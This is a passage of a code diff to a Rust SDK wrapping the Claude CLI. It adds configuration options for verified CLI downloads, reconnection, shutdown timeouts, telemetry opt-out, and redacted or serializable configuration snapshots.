+    pub cli_download_version: Option<String>,
+    /// Expected SHA-256 digest (hex) of the CLI fetched by `auto_download_cli`
+    ///
+    /// The release binary is then verified before it is cached or run, with
+    /// no fallback to an installer; on a mismatch it is discarded and
+    /// `SdkError::ConfigError` is returned. A cached CLI is
+    /// checked again on connect and downloaded again if it no longer
+    /// matches. Usually combined with `cli_download_version`.
+    pub cli_download_sha256: Option<String>,
+    /// Proxy URL for the download done by `auto_download_cli`
+    ///
+    /// `None` uses `HTTPS_PROXY` / `HTTP_PROXY` and `NO_PROXY` from the
+    /// environment. See `cli_download::DownloadConfig`.
+    pub cli_download_proxy: Option<String>,
 
     /// Explicit path to the Claude CLI binary
     ///
@@ -1045,19 +1811,159 @@ pub struct ClaudeCodeOptions {
     /// Limits the total size of injected context to avoid overwhelming the prompt.
     /// Default: 2000
     pub memory_token_budget: Option<usize>,
-}
 
-impl std::fmt::Debug for ClaudeCodeOptions {
-    #[allow(deprecated)]
-    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
-        f.debug_struct("ClaudeCodeOptions")
-            .field("system_prompt", &self.system_prompt)
-            .field("append_system_prompt", &self.append_system_prompt)
-            .field("allowed_tools", &self.allowed_tools)
-            .field("disallowed_tools", &self.disallowed_tools)
-            .field("permission_mode", &self.permission_mode)
-            .field("mcp_servers", &self.mcp_servers)
-            .field("mcp_tools", &self.mcp_tools)
+    /// Track `tool_use_id`s and flag duplicates (opt-in)
+    ///
+    /// When set, the interactive client records every tool use emitted by
+    /// Claude and every tool result sent back, and applies the policy when an
+    /// id is requested twice or answered twice. `None` disables tracking.
+    pub duplicate_tool_use_policy: Option<DuplicateToolUsePolicy>,
+
+    /// Restart the CLI if it exits unexpectedly (default: false)
+    ///
+    /// When the subprocess dies while connected (crash, OOM kill), the
+    /// transport respawns it with `--resume` on the last session id it saw,
+    /// waiting `reconnect_backoff` between attempts. The message stream then
+    /// yields a `Message::System` with subtype `"reconnected"` instead of
+    /// ending, and input sent in the meantime is delivered to the new process.
+    /// Control requests awaiting a response from the dead process fail with
+    /// `SdkError::ConnectionError`. A clean exit (status 0, e.g. after
+    /// `end_input`) and `disconnect` do not trigger a restart.
+    pub reconnect_on_failure: bool,
+
+    /// Restart attempts before giving up (default: 3)
+    ///
+    /// Once exhausted the transport enters `TransportState::Error`, the
+    /// message stream ends and further input fails.
+    pub max_reconnect_attempts: Option<u32>,
+
+    /// Delays between restart attempts (see [`ReconnectBackoff`])
+    pub reconnect_backoff: ReconnectBackoff,
+
+    /// Upper bound on how long `disconnect` waits for the CLI to exit
+    /// (default: 5 seconds)
+    ///
+    /// Shutdown escalates from SIGINT to SIGTERM to SIGKILL. If the process
+    /// has still not exited when the timeout elapses, it is sent SIGKILL
+    /// without waiting and `disconnect` returns, leaving the OS to reap it.
+    pub disconnect_timeout: Option<Duration>,
+
+    /// Let `InteractiveClient::disconnect` shut the CLI down gracefully,
+    /// waiting up to this long (default: off)
+    ///
+    /// The turn is interrupted, stdin is closed and the CLI gets this long to
+    /// exit by itself, which lets it flush its transcript and checkpoints
+    /// (see `Transport::disconnect_graceful`). A CLI still running afterwards
+    /// is stopped as usual, bounded by `disconnect_timeout`.
+    pub graceful_shutdown_timeout: Option<Duration>,
+
+    /// Send a no-op `keep_alive` line to the CLI this often (default: off)
+    ///
+    /// Keeps idle sessions alive when stdin passes through layers that drop
+    /// quiet connections, such as proxies or remote shells. A zero interval
+    /// is treated as off. `WebSocketTransport` pings on its own (see
+    /// `WebSocketTransportBuilder::ping_interval`).
+    pub keepalive_interval: Option<Duration>,
+
+    /// Upper bound on how long a `can_use_tool` callback may take
+    /// (default: unbounded)
+    ///
+    /// When it elapses the tool use is denied with "permission callback timed
+    /// out", so a callback waiting on a human cannot stall the control
+    /// messages queued behind it.
+    pub permission_callback_timeout: Option<Duration>,
+
+    /// Maximum number of turns kept by `InteractiveClient::conversation_history`
+    /// (`None` means [`DEFAULT_HISTORY_LIMIT`](crate::DEFAULT_HISTORY_LIMIT))
+    ///
+    /// The oldest turns are dropped first.
+    pub history_limit: Option<usize>,
+
+    /// Whether to pass `--verbose` to the CLI (`None` means true)
+    ///
+    /// The SDK reads the CLI's stream-json output, which the CLI only emits
+    /// in print mode when `--verbose` is set. Turn it off only for a CLI (or
+    /// wrapper) known to stream without it. One-shot [`query`](crate::query)
+    /// always runs the CLI with `--print`, so it fails with
+    /// `SdkError::ConfigError` when this is `Some(false)`.
+    pub verbose: Option<bool>,
+
+    /// Correlation id for the request that started this session
+    ///
+    /// Exported to the CLI subprocess as [`REQUEST_ID_ENV_VAR`] and recorded
+    /// on the SDK's transport spans, so gateway, SDK and CLI logs can be joined.
+    pub request_id: Option<String>,
+
+    /// Entrypoint reported to the CLI as `CLAUDE_CODE_ENTRYPOINT`
+    ///
+    /// Defaults to `sdk-rust`. Frameworks built on the SDK can set their own
+    /// name so their sessions can be told apart in telemetry and logs.
+    pub entrypoint: Option<String>,
+
+    /// Version reported to the CLI as `CLAUDE_AGENT_SDK_VERSION`
+    ///
+    /// Defaults to this crate's version.
+    pub sdk_version_override: Option<String>,
+
+    /// Keep SDK identification and CLI telemetry out of the subprocess (default: false)
+    ///
+    /// When set, `CLAUDE_CODE_ENTRYPOINT` and `CLAUDE_AGENT_SDK_VERSION` are
+    /// removed from the CLI's environment (including values inherited from
+    /// this process), and `DISABLE_TELEMETRY=1` and
+    /// `DISABLE_ERROR_REPORTING=1` are set. `entrypoint` and
+    /// `sdk_version_override` are then ignored.
+    pub disable_telemetry_env: bool,
+
+    /// Fail `connect` on questionable configuration instead of warning (default: false)
+    ///
+    /// Covers conditions that are otherwise logged and worked around: an
+    /// invalid `CLAUDE_CODE_MAX_OUTPUT_TOKENS`, unreadable or non-object
+    /// settings and an unknown tools preset. Each becomes an
+    /// `SdkError::ConfigError`. A CLI older than the supported minimum is
+    /// still only a warning.
+    pub strict_mode: bool,
+
+    /// Called with every tool-use block parsed from an assistant message
+    ///
+    /// Observation only: it cannot allow or deny the tool (use `can_use_tool`
+    /// for that). It runs on the transport's reader task, so it should return
+    /// quickly and must not block.
+    pub on_tool_use: Option<ToolUseCallback>,
+
+    /// Tools the interactive client answers locally (see [`AutoResponder`])
+    ///
+    /// When a tool use for a registered tool arrives, the client runs its
+    /// handler and sends the tool result itself; the message is still yielded
+    /// to the caller, who must not answer that tool use again.
+    pub auto_responder: Option<AutoResponder>,
+
+    /// Record every control protocol message sent or received
+    ///
+    /// The client wraps its transport in a
+    /// [`RecordingTransport`](crate::RecordingTransport) and exposes the
+    /// record through `control_log()`. Off by default, as the log grows for
+    /// the lifetime of the client.
+    pub record_control_protocol: bool,
+
+    /// Which `Result` message ends a turn (default: the first top-level one)
+    pub result_policy: ResultPolicy,
+}
+
+/// Environment variable carrying [`ClaudeCodeOptions::request_id`] to the CLI process
+pub const REQUEST_ID_ENV_VAR: &str = "NEXUS_REQUEST_ID";
+
+impl std::fmt::Debug for ClaudeCodeOptions {
+    #[allow(deprecated)]
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("ClaudeCodeOptions")
+            .field("system_prompt", &self.system_prompt)
+            .field("append_system_prompt", &self.append_system_prompt)
+            .field("inherit_cli_system_prompt", &self.inherit_cli_system_prompt)
+            .field("allowed_tools", &self.allowed_tools)
+            .field("disallowed_tools", &self.disallowed_tools)
+            .field("permission_mode", &self.permission_mode)
+            .field("mcp_servers", &self.mcp_servers)
+            .field("mcp_tools", &self.mcp_tools)
             .field("max_turns", &self.max_turns)
             .field("max_thinking_tokens", &self.max_thinking_tokens)
             .field("max_output_tokens", &self.max_output_tokens)
@@ -1072,21 +1978,390 @@ impl std::fmt::Debug for ClaudeCodeOptions {
             .field("settings", &self.settings)
             .field("add_dirs", &self.add_dirs)
             .field("extra_args", &self.extra_args)
+            .field("extra_args_multi", &self.extra_args_multi)
             .field("env", &self.env)
             .field("debug_stderr", &self.debug_stderr.is_some())
+            .field("suppress_stderr_errors", &self.suppress_stderr_errors)
             .field("include_partial_messages", &self.include_partial_messages)
+            .field("input_format", &self.input_format)
             .field("can_use_tool", &self.can_use_tool.is_some())
             .field("hooks", &self.hooks.is_some())
             .field("control_protocol_format", &self.control_protocol_format)
+            .field("request_id", &self.request_id)
+            .field("entrypoint", &self.entrypoint)
+            .field("sdk_version_override", &self.sdk_version_override)
+            .field("disable_telemetry_env", &self.disable_telemetry_env)
+            .field("history_limit", &self.history_limit)
+            .field("verbose", &self.verbose)
+            .field("reconnect_on_failure", &self.reconnect_on_failure)
+            .field("max_reconnect_attempts", &self.max_reconnect_attempts)
+            .field("reconnect_backoff", &self.reconnect_backoff)
+            .field("disconnect_timeout", &self.disconnect_timeout)
+            .field("graceful_shutdown_timeout", &self.graceful_shutdown_timeout)
+            .field("keepalive_interval", &self.keepalive_interval)
+            .field(
+                "permission_callback_timeout",
+                &self.permission_callback_timeout,
+            )
+            .field("allow_multiple_receivers", &self.allow_multiple_receivers)
+            .field("dedup_messages", &self.dedup_messages)
+            .field("log_sink", &self.log_sink.is_some())
+            .field("strict_mode", &self.strict_mode)
+            .field("cli_download_version", &self.cli_download_version)
+            .field("cli_download_sha256", &self.cli_download_sha256)
+            .field("cli_download_proxy", &self.cli_download_proxy)
+            .field("on_tool_use", &self.on_tool_use.is_some())
+            .field("auto_responder", &self.auto_responder)
+            .field("record_control_protocol", &self.record_control_protocol)
+            .field("result_policy", &self.result_policy)
             .finish()
     }
 }
 
+/// Placeholder for secret values in [`ClaudeCodeOptions::to_snapshot`]
+const REDACTED: &str = "[redacted]";
+
+/// Map keys to `REDACTED`, keeping which keys were set
+fn redact_values(map: &HashMap<String, String>) -> serde_json::Map<String, serde_json::Value> {
+    map.keys()
+        .map(|key| (key.clone(), REDACTED.into()))
+        .collect()
+}
+
 impl ClaudeCodeOptions {
     /// Create a new options builder
     pub fn builder() -> ClaudeCodeOptionsBuilder {
         ClaudeCodeOptionsBuilder::default()
     }
+
+    /// Effective configuration as JSON, for bug reports and reproduction
+    ///
+    /// Secrets are redacted: the values of `env` and of MCP server `env` and
+    /// `headers` are replaced with `"[redacted]"`, keeping their keys.
+    /// Callbacks and other non-serializable fields (`can_use_tool`, `hooks`,
+    /// `debug_stderr`, `stderr_callback`, `log_sink`, `on_tool_use`) are
+    /// reported as booleans saying whether they were set; `auto_responder`
+    /// as the names of its tools.
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::ClaudeCodeOptions;
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .model("claude-sonnet-4-5")
+    ///     .env("ANTHROPIC_API_KEY", "sk-ant-secret")
+    ///     .build();
+    /// let snapshot = options.to_snapshot();
+    /// assert_eq!(snapshot["model"], "claude-sonnet-4-5");
+    /// assert_eq!(snapshot["env"]["ANTHROPIC_API_KEY"], "[redacted]");
+    /// ```
+    #[allow(deprecated)]
+    pub fn to_snapshot(&self) -> serde_json::Value {
+        use serde_json::json;
+
+        let mcp_servers: serde_json::Map<String, serde_json::Value> = self
+            .mcp_servers
+            .iter()
+            .map(|(name, config)| {
+                let value = match config {
+                    McpServerConfig::Stdio { command, args, env } => json!({
+                        "type": "stdio",
+                        "command": command,
+                        "args": args,
+                        "env": env.as_ref().map(redact_values),
+                    }),
+                    McpServerConfig::Sse { url, headers } => json!({
+                        "type": "sse",
+                        "url": url,
+                        "headers": headers.as_ref().map(redact_values),
+                    }),
+                    McpServerConfig::Http { url, headers } => json!({
+                        "type": "http",
+                        "url": url,
+                        "headers": headers.as_ref().map(redact_values),
+                    }),
+                    McpServerConfig::Sdk { name, .. } => json!({
+                        "type": "sdk",
+                        "name": name,
+                    }),
+                };
+                (name.clone(), value)
+            })
+            .collect();
+
+        let mut snapshot = json!({
+            "sdk_version": env!("CARGO_PKG_VERSION"),
+            "system_prompt_v2": self.system_prompt_v2,
+            "system_prompt": self.system_prompt,
+            "append_system_prompt": self.append_system_prompt,
+            "inherit_cli_system_prompt": self.inherit_cli_system_prompt,
+            "allowed_tools": self.allowed_tools,
+            "disallowed_tools": self.disallowed_tools,
+            "permission_mode": self.permission_mode,
+            "mcp_servers": mcp_servers,
+            "mcp_tools": self.mcp_tools,
+            "max_turns": self.max_turns,
+            "max_thinking_tokens": self.max_thinking_tokens,
+            "max_output_tokens": self.max_output_tokens,
+            "model": self.model,
+            "cwd": self.cwd,
+            "continue_conversation": self.continue_conversation,
+            "resume": self.resume,
+            "permission_prompt_tool_name": self.permission_prompt_tool_name,
+            "settings": self.settings,
+            "add_dirs": self.add_dirs,
+            "extra_args": self.extra_args,
+            "extra_args_multi": self.extra_args_multi,
+            "env": redact_values(&self.env),
+            "extra_env_file": self.extra_env_file,
+            "include_partial_messages": self.include_partial_messages,
+            "input_format": self.input_format.as_cli_arg(),
+            "control_protocol_format": format!("{:?}", self.control_protocol_format),
+            "result_policy": format!("{:?}", self.result_policy),
+            "disconnect_timeout_ms": self.disconnect_timeout.map(|t| t.as_millis() as u64),
+            "graceful_shutdown_timeout_ms": self
+                .graceful_shutdown_timeout
+                .map(|t| t.as_millis() as u64),
+            "keepalive_interval_ms": self.keepalive_interval.map(|t| t.as_millis() as u64),
+            "suppress_stderr_errors": self.suppress_stderr_errors,
+            "permission_callback_timeout_ms": self
+                .permission_callback_timeout
+                .map(|t| t.as_millis() as u64),
+            "cli_download_version": self.cli_download_version,
+            "cli_download_sha256": self.cli_download_sha256,
+            // Proxy URLs may carry credentials
+            "cli_download_proxy": self.cli_download_proxy.as_ref().map(|_| REDACTED),
+        });
+        let rest = json!({
+            "setting_sources": self.setting_sources,
+            "fork_session": self.fork_session,
+            "agents": self.agents,
+            "cli_channel_buffer_size": self.cli_channel_buffer_size,
+            "allow_multiple_receivers": self.allow_multiple_receivers,
+            "dedup_messages": self.dedup_messages,
+            "tools": self.tools,
+            "betas": self.betas,
+            "max_budget_usd": self.max_budget_usd,
+            "fallback_model": self.fallback_model,
+            "output_format": self.output_format,
+            "enable_file_checkpointing": self.enable_file_checkpointing,
+            "sandbox": self.sandbox,
+            "plugins": self.plugins,
+            "user": self.user,
+            "resource_limits": self.resource_limits.map(|limits| json!({
+                "max_memory_bytes": limits.max_memory_bytes,
+                "max_cpu_seconds": limits.max_cpu_seconds,
+            })),
+            "auto_download_cli": self.auto_download_cli,
+            "cli_path": self.cli_path,
+            "memory_enabled": self.memory_enabled,
+            "memory_threshold": self.memory_threshold,
+            "max_context_items": self.max_context_items,
+            "memory_token_budget": self.memory_token_budget,
+            "duplicate_tool_use_policy": self
+                .duplicate_tool_use_policy
+                .map(|policy| format!("{policy:?}")),
+            "request_id": self.request_id,
+            "entrypoint": self.entrypoint,
+            "sdk_version_override": self.sdk_version_override,
+            "disable_telemetry_env": self.disable_telemetry_env,
+            "history_limit": self.history_limit,
+            "verbose": self.verbose,
+            "reconnect_on_failure": self.reconnect_on_failure,
+            "max_reconnect_attempts": self.max_reconnect_attempts,
+            "reconnect_backoff": json!({
+                "base_delay_ms": self.reconnect_backoff.base_delay.as_millis() as u64,
+                "multiplier": self.reconnect_backoff.multiplier,
+                "max_delay_ms": self.reconnect_backoff.max_delay.as_millis() as u64,
+            }),
+            "strict_mode": self.strict_mode,
+            "record_control_protocol": self.record_control_protocol,
+            // Callbacks can't be serialized; report whether they were set
+            "debug_stderr": self.debug_stderr.is_some(),
+            "can_use_tool": self.can_use_tool.is_some(),
+            "hooks": self.hooks.is_some(),
+            "stderr_callback": self.stderr_callback.is_some(),
+            "log_sink": self.log_sink.is_some(),
+            "on_tool_use": self.on_tool_use.is_some(),
+            "auto_responder": self.auto_responder.as_ref().map(AutoResponder::tool_names),
+        });
+        if let (Some(snapshot), serde_json::Value::Object(rest)) = (snapshot.as_object_mut(), rest)
+        {
+            snapshot.extend(rest);
+        }
+        snapshot
+    }
+}
+
+/// Serializable subset of [`ClaudeCodeOptions`], for storing presets
+///
+/// Holds the fields that shape the CLI invocation (prompts, tools, model,
+/// permissions, sandbox, betas, budgets, ...) so a configuration can be saved
+/// as JSON, diffed, and applied again with
+/// [`ClaudeCodeOptionsBuilder::apply_snapshot`]. Callbacks, hooks, in-process
+/// SDK MCP servers, `debug_stderr` and per-connection settings such as
+/// `cli_path` and `request_id` are left out and attached programmatically.
+///
+/// Unlike [`ClaudeCodeOptions::to_snapshot`], nothing is redacted: `env` and
+/// MCP server env and headers are stored as is, so treat saved snapshots as
+/// secrets when they contain credentials. Missing fields deserialize to their
+/// defaults.
+///
+/// # Example
+///
+/// ```rust
+/// # use nexus_claude::{ClaudeCodeOptions, ClaudeCodeOptionsSnapshot};
+/// let options = ClaudeCodeOptions::builder().model("sonnet").max_turns(3).build();
+/// let json = serde_json::to_string(&ClaudeCodeOptionsSnapshot::from(&options))?;
+///
+/// let preset: ClaudeCodeOptionsSnapshot = serde_json::from_str(&json)?;
+/// let restored = ClaudeCodeOptions::builder().apply_snapshot(preset).build();
+/// assert_eq!(restored.model.as_deref(), Some("sonnet"));
+/// assert_eq!(restored.max_turns, Some(3));
+/// # Ok::<(), serde_json::Error>(())
+/// ```
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ClaudeCodeOptionsSnapshot {
+    /// System prompt configuration
+    pub system_prompt_v2: Option<SystemPrompt>,
+    /// Legacy system prompt (see `ClaudeCodeOptions::system_prompt`)
+    pub system_prompt: Option<String>,
+    /// Legacy appended system prompt
+    pub append_system_prompt: Option<String>,
+    /// Leave the system prompt to the CLI when none is set
+    pub inherit_cli_system_prompt: bool,
+    /// Tools allowed without prompting
+    pub allowed_tools: Vec<String>,
+    /// Tools that may not be used
+    pub disallowed_tools: Vec<String>,
+    /// Permission mode
+    pub permission_mode: PermissionMode,
+    /// External MCP servers (in-process SDK servers are not included)
+    pub mcp_servers: HashMap<String, McpServerConfig>,
+    /// MCP tools
+    pub mcp_tools: Vec<String>,
+    /// Maximum number of turns
+    pub max_turns: Option<i32>,
+    /// Extended thinking budget
+    pub max_thinking_tokens: i32,
+    /// Maximum output tokens
+    pub max_output_tokens: Option<u32>,
+    /// Model
+    pub model: Option<String>,
+    /// Working directory
+    pub cwd: Option<PathBuf>,
+    /// Continue the most recent conversation
+    pub continue_conversation: bool,
+    /// Session to resume
+    pub resume: Option<String>,
+    /// Permission prompt tool
+    pub permission_prompt_tool_name: Option<String>,
+    /// Settings file or JSON
+    pub settings: Option<String>,
+    /// Additional directories
+    pub add_dirs: Vec<PathBuf>,
+    /// Extra CLI arguments
+    pub extra_args: HashMap<String, Option<String>>,
+    /// Repeated extra CLI arguments
+    pub extra_args_multi: HashMap<String, Vec<String>>,
+    /// Environment variables, unredacted
+    pub env: HashMap<String, String>,
+    /// Dotenv-style file loaded at connect time
+    pub extra_env_file: Option<PathBuf>,
+    /// Stream partial assistant messages
+    pub include_partial_messages: bool,
+    /// Format of the input written to the CLI
+    pub input_format: InputFormat,
+    /// Setting sources to load
+    pub setting_sources: Option<Vec<SettingSource>>,
+    /// Fork the resumed session
+    pub fork_session: bool,
+    /// Programmatic subagents
+    pub agents: Option<HashMap<String, AgentDefinition>>,
+    /// Base set of tools
+    pub tools: Option<ToolsConfig>,
+    /// SDK betas
+    pub betas: Vec<SdkBeta>,
+    /// Spending limit in USD
+    pub max_budget_usd: Option<f64>,
+    /// Fallback model
+    pub fallback_model: Option<String>,
+    /// Structured output schema
+    pub output_format: Option<serde_json::Value>,
+    /// File checkpointing
+    pub enable_file_checkpointing: bool,
+    /// Sandbox settings
+    pub sandbox: Option<SandboxSettings>,
+    /// Plugins
+    pub plugins: Vec<SdkPluginConfig>,
+    /// User to run the CLI as
+    pub user: Option<String>,
+    /// Pass `--verbose` (default when `None`)
+    pub verbose: Option<bool>,
+    /// Entrypoint reported to the CLI
+    pub entrypoint: Option<String>,
+    /// SDK version reported to the CLI
+    pub sdk_version_override: Option<String>,
+    /// Keep SDK identification and telemetry out of the CLI
+    pub disable_telemetry_env: bool,
+    /// Fail on questionable configuration
+    pub strict_mode: bool,
+}
+
+impl From<&ClaudeCodeOptions> for ClaudeCodeOptionsSnapshot {
+    #[allow(deprecated)]
+    fn from(options: &ClaudeCodeOptions) -> Self {
+        Self {
+            system_prompt_v2: options.system_prompt_v2.clone(),
+            system_prompt: options.system_prompt.clone(),
+            append_system_prompt: options.append_system_prompt.clone(),
+            inherit_cli_system_prompt: options.inherit_cli_system_prompt,
+            allowed_tools: options.allowed_tools.clone(),
+            disallowed_tools: options.disallowed_tools.clone(),
+            permission_mode: options.permission_mode,
+            mcp_servers: options
+                .mcp_servers
+                .iter()
+                .filter(|(_, config)| !matches!(config, McpServerConfig::Sdk { .. }))
+                .map(|(name, config)| (name.clone(), config.clone()))
+                .collect(),
+            mcp_tools: options.mcp_tools.clone(),
+            max_turns: options.max_turns,
+            max_thinking_tokens: options.max_thinking_tokens,
+            max_output_tokens: options.max_output_tokens,
+            model: options.model.clone(),
+            cwd: options.cwd.clone(),
+            continue_conversation: options.continue_conversation,
+            resume: options.resume.clone(),
+            permission_prompt_tool_name: options.permission_prompt_tool_name.clone(),
+            settings: options.settings.clone(),
+            add_dirs: options.add_dirs.clone(),
+            extra_args: options.extra_args.clone(),
+            extra_args_multi: options.extra_args_multi.clone(),
+            env: options.env.clone(),
+            extra_env_file: options.extra_env_file.clone(),
+            include_partial_messages: options.include_partial_messages,
+            input_format: options.input_format,
+            setting_sources: options.setting_sources.clone(),
+            fork_session: options.fork_session,
+            agents: options.agents.clone(),
+            tools: options.tools.clone(),
+            betas: options.betas.clone(),
+            max_budget_usd: options.max_budget_usd,
+            fallback_model: options.fallback_model.clone(),
+            output_format: options.output_format.clone(),
+            enable_file_checkpointing: options.enable_file_checkpointing,
+            sandbox: options.sandbox.clone(),
+            plugins: options.plugins.clone(),
+            user: options.user.clone(),
+            verbose: options.verbose,
+            entrypoint: options.entrypoint.clone(),
+            sdk_version_override: options.sdk_version_override.clone(),
+            disable_telemetry_env: options.disable_telemetry_env,
+            strict_mode: options.strict_mode,
+        }
+    }
 }
 
 /// Builder for ClaudeCodeOptions
@@ -1096,6 +2371,106 @@ pub struct ClaudeCodeOptionsBuilder {
 }
 
 impl ClaudeCodeOptionsBuilder {
+    /// Set every field stored in `snapshot`
+    ///
+    /// Fields outside the snapshot, such as callbacks and hooks, are left as
+    /// they are, so they can be attached before or after. In-process SDK MCP
+    /// servers are kept; other MCP servers are replaced by the snapshot's.
+    #[allow(deprecated)]
+    pub fn apply_snapshot(mut self, snapshot: ClaudeCodeOptionsSnapshot) -> Self {
+        let ClaudeCodeOptionsSnapshot {
+            system_prompt_v2,
+            system_prompt,
+            append_system_prompt,
+            inherit_cli_system_prompt,
+            allowed_tools,
+            disallowed_tools,
+            permission_mode,
+            mcp_servers,
+            mcp_tools,
+            max_turns,
+            max_thinking_tokens,
+            max_output_tokens,
+            model,
+            cwd,
+            continue_conversation,
+            resume,
+            permission_prompt_tool_name,
+            settings,
+            add_dirs,
+            extra_args,
+            extra_args_multi,
+            env,
+            extra_env_file,
+            include_partial_messages,
+            input_format,
+            setting_sources,
+            fork_session,
+            agents,
+            tools,
+            betas,
+            max_budget_usd,
+            fallback_model,
+            output_format,
+            enable_file_checkpointing,
+            sandbox,
+            plugins,
+            user,
+            verbose,
+            entrypoint,
+            sdk_version_override,
+            disable_telemetry_env,
+            strict_mode,
+        } = snapshot;
+        let options = &mut self.options;
+        options
+            .mcp_servers
+            .retain(|_, config| matches!(config, McpServerConfig::Sdk { .. }));
+        options.mcp_servers.extend(mcp_servers);
+        options.system_prompt_v2 = system_prompt_v2;
+        options.system_prompt = system_prompt;
+        options.append_system_prompt = append_system_prompt;
+        options.inherit_cli_system_prompt = inherit_cli_system_prompt;
+        options.allowed_tools = allowed_tools;
+        options.disallowed_tools = disallowed_tools;
+        options.permission_mode = permission_mode;
+        options.mcp_tools = mcp_tools;
+        options.max_turns = max_turns;
+        options.max_thinking_tokens = max_thinking_tokens;
+        options.max_output_tokens = max_output_tokens;
+        options.model = model;
+        options.cwd = cwd;
+        options.continue_conversation = continue_conversation;
+        options.resume = resume;
+        options.permission_prompt_tool_name = permission_prompt_tool_name;
+        options.settings = settings;
+        options.add_dirs = add_dirs;
+        options.extra_args = extra_args;
+        options.extra_args_multi = extra_args_multi;
+        options.env = env;
+        options.extra_env_file = extra_env_file;
+        options.include_partial_messages = include_partial_messages;
+        options.input_format = input_format;
+        options.setting_sources = setting_sources;
+        options.fork_session = fork_session;
+        options.agents = agents;
+        options.tools = tools;
+        options.betas = betas;
+        options.max_budget_usd = max_budget_usd;
+        options.fallback_model = fallback_model;
+        options.output_format = output_format;
+        options.enable_file_checkpointing = enable_file_checkpointing;
+        options.sandbox = sandbox;
+        options.plugins = plugins;
+        options.user = user;
+        options.verbose = verbose;
+        options.entrypoint = entrypoint;
+        options.sdk_version_override = sdk_version_override;
+        options.disable_telemetry_env = disable_telemetry_env;
+        options.strict_mode = strict_mode;
+        self
+    }
+
     /// Set system prompt
     #[allow(deprecated)]
     pub fn system_prompt(mut self, prompt: impl Into<String>) -> Self {
@@ -1110,6 +2485,18 @@ impl ClaudeCodeOptionsBuilder {
         self
     }
 
+    /// Load the system prompt from a file when connecting
+    ///
+    /// Sets `system_prompt_v2` to [`SystemPrompt::File`] without an append;
+    /// set the field directly to append text to the file's prompt.
+    pub fn system_prompt_file(mut self, path: impl Into<PathBuf>) -> Self {
+        self.options.system_prompt_v2 = Some(SystemPrompt::File {
+            path: path.into(),
+            append: None,
+        });
+        self
+    }
+
     /// Set allowed tools (auto-approval permissions only)
     ///
     /// **IMPORTANT**: This only controls which tool invocations bypass permission
@@ -1188,8 +2575,10 @@ impl ClaudeCodeOptionsBuilder {
     }
 
     /// Set max output tokens (1-32000, overrides CLAUDE_CODE_MAX_OUTPUT_TOKENS env var)
+    ///
+    /// `build` clamps values outside the range; `try_build` rejects them.
     pub fn max_output_tokens(mut self, tokens: u32) -> Self {
-        self.options.max_output_tokens = Some(tokens.clamp(1, 32000));
+        self.options.max_output_tokens = Some(tokens);
         self
     }
 
@@ -1248,11 +2637,21 @@ impl ClaudeCodeOptionsBuilder {
     }
 
     /// Add a single extra CLI argument
+    ///
+    /// `value` is passed as one argv entry even if it contains spaces.
     pub fn add_extra_arg(mut self, key: impl Into<String>, value: Option<String>) -> Self {
         self.options.extra_args.insert(key.into(), value);
         self
     }
 
+    /// Add an extra CLI flag followed by several values
+    ///
+    /// Emits the flag once, then each value as a separate argv entry.
+    pub fn add_extra_arg_multi(mut self, key: impl Into<String>, values: Vec<String>) -> Self {
+        self.options.extra_args_multi.insert(key.into(), values);
+        self
+    }
+
     /// Set control protocol format
     pub fn control_protocol_format(mut self, format: ControlProtocolFormat) -> Self {
         self.options.control_protocol_format = format;
@@ -1265,12 +2664,43 @@ impl ClaudeCodeOptionsBuilder {
         self
     }
 
+    /// Set the input format written to the CLI's stdin
+    ///
+    /// With `InputFormat::Text`, user messages are sent as their plain text,
+    /// one prompt per send (batches are rejected), and control-protocol
+    /// features (hooks, permission callbacks, interrupts) are unavailable.
+    pub fn input_format(mut self, format: InputFormat) -> Self {
+        self.options.input_format = format;
+        self
+    }
+
     /// Enable fork_session behavior
     pub fn fork_session(mut self, fork: bool) -> Self {
         self.options.fork_session = fork;
         self
     }
 
+    /// Keep the CLI's own system prompt when none is set on these options
+    ///
+    /// Omits the implicit `--system-prompt ""`. Combine with
+    /// [`setting_sources`](Self::setting_sources) so the CLI loads the settings
+    /// file that defines the prompt.
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::{ClaudeCodeOptions, SettingSource};
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .inherit_cli_system_prompt(true)
+    ///     .setting_sources(vec![SettingSource::User])
+    ///     .build();
+    /// assert!(options.inherit_cli_system_prompt);
+    /// ```
+    pub fn inherit_cli_system_prompt(mut self, inherit: bool) -> Self {
+        self.options.inherit_cli_system_prompt = inherit;
+        self
+    }
+
     /// Set setting sources
     pub fn setting_sources(mut self, sources: Vec<SettingSource>) -> Self {
         self.options.setting_sources = Some(sources);
@@ -1283,6 +2713,12 @@ impl ClaudeCodeOptionsBuilder {
         self
     }
 
+    /// Decide tool permissions in the SDK (see [`RuleBasedPermissions`])
+    pub fn can_use_tool(mut self, can_use_tool: Arc<dyn CanUseTool>) -> Self {
+        self.options.can_use_tool = Some(can_use_tool);
+        self
+    }
+
     /// Set hook configurations (replaces any existing hooks)
     ///
     /// Hooks allow intercepting CLI events (PreToolUse, PostToolUse, PreCompact, etc.)
@@ -1312,7 +2748,8 @@ impl ClaudeCodeOptionsBuilder {
     ///
     /// Appends to existing matchers for this event, or creates a new entry.
     /// Event names must be PascalCase: "PreToolUse", "PostToolUse",
-    /// "UserPromptSubmit", "Stop", "SubagentStop", "PreCompact".
+    /// "UserPromptSubmit", "Stop", "SubagentStop", "PreCompact", "SessionStart",
+    /// "Notification".
     pub fn add_hook(mut self, event_name: impl Into<String>, matcher: HookMatcher) -> Self {
         let hooks = self.options.hooks.get_or_insert_with(HashMap::new);
         hooks.entry(event_name.into()).or_default().push(matcher);
@@ -1341,6 +2778,41 @@ impl ClaudeCodeOptionsBuilder {
         self
     }
 
+    /// Deliver messages over a broadcast channel to multiple receivers
+    ///
+    /// Required for `subscribe_messages`. Broadcast receivers that lag more
+    /// than `cli_channel_buffer_size` messages behind lose the oldest ones;
+    /// the default single-consumer queue is lossless.
+    ///
+    /// # Example
+    ///
+    /// ```rust
+    /// # use nexus_claude::ClaudeCodeOptions;
+    /// let options = ClaudeCodeOptions::builder()
+    ///     .allow_multiple_receivers(true)
+    ///     .build();
+    /// ```
+    pub fn allow_multiple_receivers(mut self, allow: bool) -> Self {
